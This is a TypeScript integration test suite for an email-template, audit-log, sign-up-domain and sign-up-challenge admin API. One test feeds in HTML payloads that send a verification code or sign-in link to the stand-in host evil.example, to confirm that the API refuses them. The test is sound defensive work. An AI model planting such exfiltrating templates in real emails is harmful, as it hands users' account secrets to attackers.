import { auditLogPath, mailsPath, templateVersionsPath } from '@sillage/core/base/paths'
import { mailSchema } from '@sillage/core/mail/mail'
import { beforeAll, describe, expect, it, onTestFinished } from 'vitest'
import { send } from './client.ts'
import { failVerifications } from './identity-world.ts'
import { newTemplate } from './mail-world.ts'
import { db, joinBrand, newBrand, newPerson, type Person } from './world.ts'

let admin: Person
let superAdmin: Person
beforeAll(async () => {
  ;[admin, superAdmin] = await Promise.all([
    newPerson([], { role: 'admin' }),
    newPerson([], { role: 'super_admin' }),
  ])
})

const path = (id = '', verb = '') => `/api/email-templates${id && `/${id}`}${verb && `/${verb}`}`
const call = async (method: string, at: string, body?: unknown) =>
  await send(method, at, { token: admin.token, ...(body === undefined ? {} : { body }) })
const list = async (query = ''): Promise<Record<string, unknown>[]> =>
  (await call('GET', `${path()}${query}`)).body.data as Record<string, unknown>[]

const auditCount = async (action: string): Promise<number> =>
  (await db.collection(auditLogPath()).where('actorId', '==', admin.uid).where('action', '==', action).get())
    .size

describe('email templates', () => {
  it('are all built in and active when none has been written', async () => {
    const templates = await list('?search=invit')
    expect(templates.map(({ id, built_in }) => ({ id, built_in }))).toEqual(
      expect.arrayContaining([
        { id: 'invitation_en', built_in: true },
        { id: 'invitation_fr', built_in: true },
      ]),
    )
    expect(templates.some((template) => 'html' in template || 'text' in template)).toBe(false)
    const { body } = await call('GET', path('one_time_code_fr'))
    expect(body.data).toMatchObject({ template_key: 'one_time_code_fr', built_in: true, updated_at: null })
    expect(body.data).toHaveProperty('placeholders', expect.arrayContaining(['code', 'minutes']))
  })

  it('are created, changed, activated and deleted, each with an audit entry', async () => {
    const content = {
      template_key: 'trial_ending_fr',
      description: 'Plus court',
      subject: 'Fin le {{date}}',
      html: '<p>{{date}} <a href="{{link}}">Arrêter</a></p>',
      text: '{{date}} {{link}}',
      placeholders: ['date', 'link'],
    }
    const created = await call('POST', path(), content)
    expect(created).toMatchObject({ status: 201, body: { data: { ...content, is_active: false } } })
    const { id } = created.body.data as { id: string }

    const { template_key, ...editable } = content
    const changed = await call('PUT', path(id), { ...editable, subject: 'Le {{date}}' })
    expect(changed.body.data).toMatchObject({ id, template_key, subject: 'Le {{date}}', is_active: false })

    expect((await call('POST', path(id, 'activate'))).body.data).toMatchObject({ is_active: true })
    const active = (await list('?template_key=trial_ending_fr&is_active=true')).map((template) => template.id)
    expect(active).toEqual([id])

    expect((await call('POST', path('trial_ending_fr', 'activate'))).body.data).toMatchObject({
      is_active: true,
      built_in: true,
    })
    expect((await call('GET', path(id))).body.data).toMatchObject({ is_active: false })

    expect((await call('DELETE', path(id))).body).toEqual({ ok: true })
    expect((await call('GET', path(id))).body).toMatchObject({ errorCode: 'template_not_found' })
    for (const action of ['create', 'update', 'delete']) {
      expect(await auditCount(`${action}_email_template`), action).toBe(1)
    }
    expect(await auditCount('activate_email_template')).toBe(2)
  })

  it('return to the built-in text when a change of it is deleted', async () => {
    const { body } = await call('GET', path('payment_failed_en'))
    const { id, built_in, updated_at, template_key, is_active, values, required, ...editable } =
      body.data as Record<string, unknown>
    onTestFinished(async () => void (await call('DELETE', path('payment_failed_en'))))
    const changed = await call('PUT', path('payment_failed_en'), { ...editable, subject: 'Mind your card' })
    expect(changed.body.data).toMatchObject({ subject: 'Mind your card', is_active: true, built_in: true })
    expect((await call('DELETE', path('payment_failed_en'))).status).toBe(200)
    expect((await call('GET', path('payment_failed_en'))).body.data).toMatchObject({
      subject: editable.subject,
    })
    expect((await call('DELETE', path('payment_failed_en'))).body).toMatchObject({
      errorCode: 'template_built_in',
    })
  })

  it('are not activated when a placeholder or a required link is wrong', async () => {
    const id = await newTemplate({ html: '<p>{{nobody}}</p>', text: '{{link}}' })
    const activated = await call('POST', path(id, 'activate'))
    expect(activated.body).toMatchObject({ errorCode: 'bad_request', field: 'html' })
    const active = { template_key: 'trial_ending_en', subject: 'S', text: '{{link}}', is_active: true }
    const created = await call('POST', path(), { ...active, html: '<p>no link</p>' })
    expect(created.body).toMatchObject({ errorCode: 'bad_request', field: 'html' })
    const builtIn = await call('PUT', path('receipt_en'), {
      ...active,
      template_key: 'receipt_en',
      html: 'x',
    })
    expect(builtIn.body).toMatchObject({ errorCode: 'bad_request', field: 'html' })
  })

  it('keep every saved version until they are deleted', async () => {
    const id = await newTemplate({ template_key: 'custom_mail' })
    for (const subject of ['First', 'Second']) {
      expect((await call('PUT', path(id), { subject, html: '<p></p>' })).status).toBe(200)
    }
    const versions = (await call('GET', path(id, 'versions'))).body.data as Record<string, unknown>[]
    expect(versions.map(({ subject }) => subject)).toEqual(['Second', 'First'])
    expect(versions[0]).toMatchObject({ saved_by: { user_id: admin.uid, email: admin.email } })
    await call('DELETE', path(id))
    expect((await db.collection(templateVersionsPath(id)).get()).size).toBe(0)
    expect((await call('GET', path(id, 'versions'))).body).toMatchObject({ errorCode: 'template_not_found' })
  })

  it('are mailed to the administrator who tests them, with example values', async () => {
    const draft = { template_key: 'trial_ending_en', html: '<p>{{plan}}</p>', text: '{{nobody}}' }
    const reply = await call('POST', path('test'), { ...draft, subject: 'Ends {{date}}' })
    expect(reply).toMatchObject({ status: 202, body: { ok: true } })
    const mails = await db.collection(mailsPath()).where('to', 'array-contains', admin.email).get()
    expect(mails.docs.map((document) => document.get('template.name'))).toContain('trial_ending_en')
  })

  it('refuse an edit of their key or of whether they are active', async () => {
    const id = await newTemplate({ template_key: 'custom_mail' })
    const content = { subject: 'S', html: '<p></p>' }
    for (const [field, value] of [
      ['template_key', 'other_mail'],
      ['is_active', true],
    ] as const) {
      const reply = await call('PUT', path(id), { ...content, [field]: value })
      expect(reply.body).toMatchObject({ errorCode: 'bad_request', field })
    }
  })
})

describe('templates of sign-in mails', () => {
  const content = { subject: 'In', html: '<a href="{{link}}">In</a>', text: '{{link}}' }
  const as = (person: Person, method: string, at: string, body?: unknown) =>
    send(method, at, { token: person.token, ...(body === undefined ? {} : { body }) })

  it.each(['verification_en', 'password_reset_fr', 'one_time_code_en', 'invitation_en'])(
    'are changed by super administrators only: %s',
    async (template_key) => {
      const id = await newTemplate({ template_key, html: content.html })
      for (const [method, at, body] of [
        ['POST', path(), { ...content, template_key }],
        ['PUT', path(id), content],
        ['POST', path(id, 'activate'), undefined],
        ['DELETE', path(id), undefined],
      ] as const) {
        const reply = await as(admin, method, at, body)
        expect(reply, `${method} ${at}`).toMatchObject({
          status: 403,
          body: { errorCode: 'super_admin_only' },
        })
      }
      expect((await as(admin, 'GET', path(id))).status).toBe(200)
      expect((await as(superAdmin, 'PUT', path(id), content)).status).toBe(200)
      expect((await as(superAdmin, 'DELETE', path(id))).status).toBe(200)
    },
  )

  it('are refused when they send their secret to another site', async () => {
    for (const html of [
      '<img src="https://evil.example/{{code}}">',
      '<a href="https://evil.example/{{link}}">x</a>',
    ]) {
      const created = await as(superAdmin, 'POST', path(), {
        ...content,
        html,
        template_key: 'verification_en',
      })
      expect(created.body).toMatchObject({ errorCode: 'bad_request', field: 'html' })
      const id = await newTemplate({ template_key: 'verification_en', html })
      const activated = await as(superAdmin, 'POST', path(id, 'activate'))
      expect(activated.body).toMatchObject({ errorCode: 'bad_request', field: 'html' })
    }
  })
})

describe('the audit log', () => {
  it('holds every action of an administrator, with the code of a refusal', async () => {
    const [person, brand] = [await newPerson(), await newBrand()]
    await joinBrand(brand.brandId, person.uid, 'owner')
    const act = (method: string, at: string, body: unknown) => send(method, at, { token: admin.token, body })
    const quota = { user_id: person.uid, monthly_run_limit: 7 }
    expect((await act('PUT', '/api/users/quota', quota)).status).toBe(200)
    expect((await act('PUT', `/api/brands/${brand.brandId}`, { name: 'Renamed' })).status).toBe(200)
    expect((await act('PUT', '/api/users/quota', { ...quota, user_id: 'nobody' })).status).toBe(404)
    const { docs } = await db.collection(auditLogPath()).where('actorId', '==', admin.uid).get()
    const entries = docs.map((document) => document.data())
    expect(entries).toContainEqual(
      expect.objectContaining({ action: 'set_quota', actorEmail: admin.email, after: quota }),
    )
    expect(entries).toContainEqual(
      expect.objectContaining({ action: 'change_brand', target: `/api/brands/${brand.brandId}` }),
    )
    expect(entries).toContainEqual(
      expect.objectContaining({ action: 'set_quota', refused: 'user_not_found' }),
    )
  })

  it('holds no entry when members change their own brand', async () => {
    const brand = await newBrand()
    const member = await newPerson([brand.brandId], { role: 'admin' })
    await send('PUT', `/api/brands/${brand.brandId}`, { token: member.token, body: { name: 'Renamed' } })
    expect((await db.collection(auditLogPath()).where('actorId', '==', member.uid).get()).size).toBe(0)
  })
})

describe('the domains of sign-up', () => {
  const LISTS = '/api/admin/email-lists'

  it('are stored normalized and once each, with an audit entry', async () => {
    const before = (await call('GET', LISTS)).body
    onTestFinished(async () => void (await call('PUT', LISTS, { allow: before.allow, block: before.block })))
    const reply = await call('PUT', LISTS, {
      allow: ['Bücher.example', ' acme.example ', 'ACME.example'],
      block: ['rival.example'],
    })
    expect(reply.body).toMatchObject({
      allow: ['acme.example', 'xn--bcher-kva.example'],
      block: ['rival.example'],
      updatedBy: admin.uid,
    })
    expect((await call('GET', LISTS)).body).toMatchObject({ allow: reply.body.allow })
    expect(await auditCount('update_email_lists')).toBeGreaterThanOrEqual(1)
  })

  it.each([
    ['ada@acme.test', true, 'business'],
    ['ada@eu.rival.example', false, 'blocked'],
    ['ada@gmail.com', false, 'free'],
    ['ada@partner.example', true, 'allowed'],
    ['ada@yopmail.com', false, 'disposable'],
    ['ada@harvard.edu', true, 'institution'],
    ['ada@localhost', false, 'domain'],
    ['ada', false, 'format'],
  ])('decide about %s, with the rule, before they are saved', async (address, ok, rule) => {
    const before = (await call('GET', LISTS)).body
    const domains = { allow: ['partner.example'], block: ['Rival.example'] }
    const reply = await call('POST', `${LISTS}/test`, { address, ...domains })
    expect(reply.body).toMatchObject({ ok, rule })
    expect((await call('GET', LISTS)).body).toEqual(before)
  })

  it('name the entry that is no domain', async () => {
    const reply = await call('PUT', LISTS, { allow: ['acme.example', 'no domain.x'], block: [] })
    expect(reply.body).toMatchObject({ errorCode: 'bad_request', field: 'allow.1' })
  })
})

describe('sign-up', () => {
  const register = async (email: string, turnstileToken: string) =>
    await send('POST', '/api/auth/register', {
      body: { email, password: 'correct horse battery', name: 'Ada', turnstileToken },
    })
  const solve = async (action: string): Promise<string> => {
    const { siteKey } = (await call('GET', '/api/auth/challenge')).body
    const reply = await fetch(`${process.env.SILLAGE_TURNSTILE_URL}/challenge`, {
      method: 'POST',
      body: JSON.stringify({ sitekey: siteKey, action }),
    })
    const { token } = (await reply.json()) as { token: string }
    return token
  }

  it('refuses a token that is missing, invented or for another purpose', async () => {
    for (const token of ['', 'made-up', await solve('other')]) {
      const reply = await register('ada@challenge.example', token)
      expect(reply).toMatchObject({ status: 403, body: { errorCode: 'challenge_failed' } })
    }
  })

  it('accepts a token once, and mails the address', async () => {
    const email = `ada-${Date.now()}@challenge.example`
    const token = await solve('sign_up')
    expect((await register(email, token)).status).toBe(200)
    expect((await register(email, token)).body).toMatchObject({ errorCode: 'challenge_failed' })
    const { docs } = await db.collection(mailsPath()).where('to', 'array-contains', email).get()
    expect(docs.map((document) => mailSchema.parse(document.data()).template?.name)).toEqual([
      'verification_en',
    ])
  })

  it('is refused when the challenge cannot be verified', async () => {
    const token = await solve('sign_up')
    onTestFinished(() => failVerifications(0))
    await failVerifications(1)
    const reply = await register('ada@challenge.example', token)
    expect(reply).toMatchObject({ status: 503, body: { errorCode: 'challenge_unavailable' } })
  })
})
